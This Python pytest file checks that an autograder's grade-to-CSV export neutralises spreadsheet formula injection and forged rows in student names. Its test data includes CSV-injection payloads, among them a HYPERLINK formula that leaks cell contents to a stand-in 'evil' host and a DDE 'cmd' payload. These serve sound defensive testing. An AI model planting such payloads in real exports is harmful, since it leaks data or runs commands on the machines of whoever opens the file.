"""grades.csv lists everybody, and a spreadsheet takes nothing in it for a formula."""

import csv
import json

import pytest
from click.testing import CliRunner
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.__main__ import main
from autograder.course import Course
from autograder.init import init
from autograder.marks.export import COLUMNS, as_cell, export

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own queries

LESSON = "02_the_recurrent_cell"
FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "x;=1+1", "x; @SUM(1)", "-A1", "=cmd|' /C calc'!A0", "\uff1d1", "\uff0b1", "\uff0d1+1", "\uff201"]
PLAIN = ["O'Brien", "Zoë 明", "Anne-Marie", "a@b.org", "Smith, Jr.", 'Al "Big" Jones', "3=3", "x, -y", "", "0042"]


@pytest.fixture
def course(root, tmp_path, monkeypatch):
    monkeypatch.delenv("RNNKIT_COURSE", raising=False)
    init(tmp_path / "course", root / "nbgrader_config.py")
    course = Course(tmp_path / "course" / "nbgrader_config.py")
    course.db_url = course.coursedir.db_url
    return course


def enter(course, *students):
    """Students and a lesson of 9 points in the gradebook; each has half of them."""
    with Gradebook(course.db_url) as gradebook:
        gradebook.add_assignment(LESSON)
        gradebook.add_notebook(LESSON, LESSON)
        gradebook.add_grade_cell("check", LESSON, LESSON, max_score=9, cell_type="code")
        for number, names in enumerate(students):
            student = {"id": f"s{number}"} | names
            gradebook.add_student(student.pop("id"), **student)
        for student in gradebook.students:
            gradebook.add_submission(LESSON, student.id, timestamp="2026-02-01 10:00:00 UTC")
            grade = gradebook.find_grade("check", LESSON, LESSON, student.id)
            grade.auto_score, grade.needs_manual_grade = 4.5, False
        gradebook.db.commit()


def rows(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_no_text_of_a_students_is_a_formula_and_an_ordinary_one_stays_what_it_is(course):
    texts = [*FORMULAS, *PLAIN]
    enter(course, *({"id": f"{text}{number}", "first_name": text, "last_name": f"{text}", "email": text}
                    for number, text in enumerate(texts)))
    path = export(course)
    assert len(path.read_bytes().splitlines()) == 1 + len(texts)
    found = [row[column] for row in rows(path) for column in ("student_id", "first_name", "last_name", "email")]
    for cell in found:
        for part in cell.split(";"):
            assert not part.lstrip().startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")), cell
    for text in PLAIN:
        assert found.count(text) >= 3, text


def test_numbers_stay_numbers_also_below_zero():
    assert [as_cell(value) for value in (-1, -0.5, 4.0, "-3", "-3.5", None)] == [-1, -0.5, 4.0, "-3", "-3.5", ""]
    assert as_cell("-3-3") == "'-3-3"


def test_a_name_cannot_write_a_row_of_its_own(course):
    enter(course, {"first_name": f'Eve",,\n{LESSON},,,ada,Ada,,,9.0,0.0,9.0,9.0'})
    [row] = rows(export(course))
    assert (row["student_id"], row["score"]) == ("s0", "4.5")


def test_the_table_is_nbgraders_own(course, tmp_path):
    enter(course, {"first_name": "Ada", "last_name": "King"}, {"last_name": "Babbage", "email": "b@example.org"})
    with Gradebook(course.db_url) as gradebook:
        gradebook.add_student("late")
        gradebook.add_assignment("03_later", duedate="2026-03-01")
        stock = CsvExportPlugin(to=str(tmp_path / "stock.csv"))
        stock.export(gradebook)
    assert export(course).read_text() == (tmp_path / "stock.csv").read_text()
    assert tuple(rows(tmp_path / "stock.csv")[0]) == COLUMNS


def test_the_settings_say_where_it_goes_and_who_is_in_it(course):
    enter(course, {}, {}, {})
    course.config.ExportPlugin.to = str(course.folder / "elsewhere.csv")
    course.config.ExportPlugin.student = ["s1", "s2"]
    assert export(course) == course.folder / "elsewhere.csv"
    assert [row["student_id"] for row in rows(course.folder / "elsewhere.csv")] == ["s1", "s2"]
    assert list(course.folder.glob("*.new")) == []


def test_the_command_names_its_file(course):
    enter(course, {})
    run = ["--course", str(course.folder), "export"]
    assert CliRunner().invoke(main, run, catch_exceptions=False).stdout == f"{course.folder / 'grades.csv'}\n"
    said = CliRunner().invoke(main, [*run, "--json"], catch_exceptions=False).stdout
    assert json.loads(said) == {"grades": str(course.folder / "grades.csv"), "failed": []}
